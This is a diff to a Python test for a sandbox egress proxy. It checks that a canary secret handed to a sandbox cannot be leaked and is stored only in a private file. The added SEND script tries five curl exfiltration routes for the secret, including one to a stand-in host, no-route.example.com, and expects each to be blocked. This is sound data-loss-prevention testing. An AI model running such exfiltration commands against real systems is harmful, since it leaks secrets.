@@ -1,4 +1,4 @@
-"""A secret is set, used and reflected, then looked for everywhere it must not be."""
+"""Secrets are set, used, reflected and handed to a bottle, then looked for everywhere they must not be."""
 
 from __future__ import annotations
 
@@ -22,12 +22,18 @@ from tests.servers import wait_until
 pytestmark = pytest.mark.process
 CANARY = "canary/7d1e+f00d=b4r5a9c2"
 NAME = "CANARY_TOKEN"
+HANDED = "handed/9c3a+beef=e1d2c3b4"  # to a bottle, as a variable
+HOLDER = "holder"
 FORMS = {
-    "plain": CANARY.encode(),
-    "URL-encoded": quote(CANARY, safe="").encode(),
-    "base64": base64.b64encode(CANARY.encode()).rstrip(b"="),
-    "hex": CANARY.encode().hex().encode(),
-    "middle": CANARY[4:-4].encode(),
+    f"{name} {form}": coded
+    for name, secret in {"added": CANARY, "handed": HANDED}.items()
+    for form, coded in {
+        "plain": secret.encode(),
+        "URL-encoded": quote(secret, safe="").encode(),
+        "base64": base64.b64encode(secret.encode()).rstrip(b"="),
+        "hex": secret.encode().hex().encode(),
+        "middle": secret[4:-4].encode(),
+    }.items()
 }
 
 
@@ -48,6 +54,7 @@ def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
             auth={"scheme": "Bearer", "token_ref": NAME},
         )
         use(site)
+        hand_over(site)
         try_for(site)
         with site.console() as browser:  # what was refused last is on record
             wait_until(
@@ -55,12 +62,26 @@ def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
                 what="the records",
             )
         yield site
+        if shutil.which("bwrap"):
+            Bottles(site.server).ok("delete", HOLDER)
 
 
 def use(site: Site) -> None:
     """Requests that carry it to the origin, which repeats everything it gets."""
     for path in ("/reflect/a", "/reflect/b?x=1", "/redirect"):
         assert site.fetch(f"https://{HOST}{path}").status_code in (200, 302)
+
+
+def hand_over(site: Site) -> None:
+    """A real bottle holds one as its own variable, and tries every way to send it."""
+    if not shutil.which("bwrap"):
+        return  # those who need it say so
+    bottles = Bottles(site.server)
+    bottles.manifest(HOLDER, HOLDERS_MANIFEST)
+    ran = bottles.command("start", HOLDER, "--", "sleep", "100000", HOST_HANDED=HANDED)
+    assert ran.code == 0, ran.error
+    site.told.append(bottles.ok("exec", HOLDER, "--", "sh", "-c", SEND))
+    assert site.told[-1].count('"reason": "dlp"') == 5, site.told[-1]
 
 
 def try_for(site: Site) -> None:
@@ -107,7 +128,14 @@ def test_of_all_files_only_its_own_holds_it(site: Site) -> None:
     files = [path for path in site.server.home.rglob("*") if path.is_file()]
     assert any(path.suffix == ".sqlite3" for path in files)
     holding = {path.relative_to(site.server.home) for path in files if forms_in(path.read_bytes())}
-    assert holding == {Path("admin-secrets") / NAME}
+    assert holding - {Path("bottles") / HOLDER / "run" / "handed.json"} == {Path("admin-secrets") / NAME}
+
+
+def test_of_what_a_bottle_was_handed_the_host_has_one_private_file(site: Site) -> None:
+    require(shutil.which("bwrap"), "bubblewrap", "apt-get install bubblewrap")
+    told = site.server.home / "bottles" / HOLDER / "run" / "handed.json"
+    assert "handed plain" in forms_in(told.read_bytes())
+    assert told.stat().st_mode & 0o777 == 0o600
 
 
 def test_no_page_of_the_console_or_the_admin_shows_it(site: Site) -> None:
@@ -164,6 +192,17 @@ def test_no_process_of_ours_carries_it_in_environment_or_command(site: Site) -> 
         assert forms_in(Path(f"/proc/{pid}/cmdline").read_bytes()) == []
 
 
+HOLDERS_MANIFEST = f"""backend: local
+env: {{MINE: {{from_env: HOST_HANDED}}}}
+routes:
+  - {{host: {HOST}, path_allowlist: [/reflect], pinned_addresses: [{ADDRESS}]}}
+"""
+SEND = f"""exec 2>&1
+for way in "-d $MINE https://{HOST}/reflect" "-H X-Mine:$MINE https://{HOST}/reflect" \\
+    "https://{HOST}/reflect/$MINE" "https://{HOST}/other/$MINE" "https://no-route.example.com/$MINE"; do
+    curl -sS $way
+done
+"""
 MANIFEST = f"""backend: local
 routes:
   - {{host: {HOST}, auth: {{scheme: Bearer, token_ref: {NAME}}}, pinned_addresses: [{ADDRESS}]}}
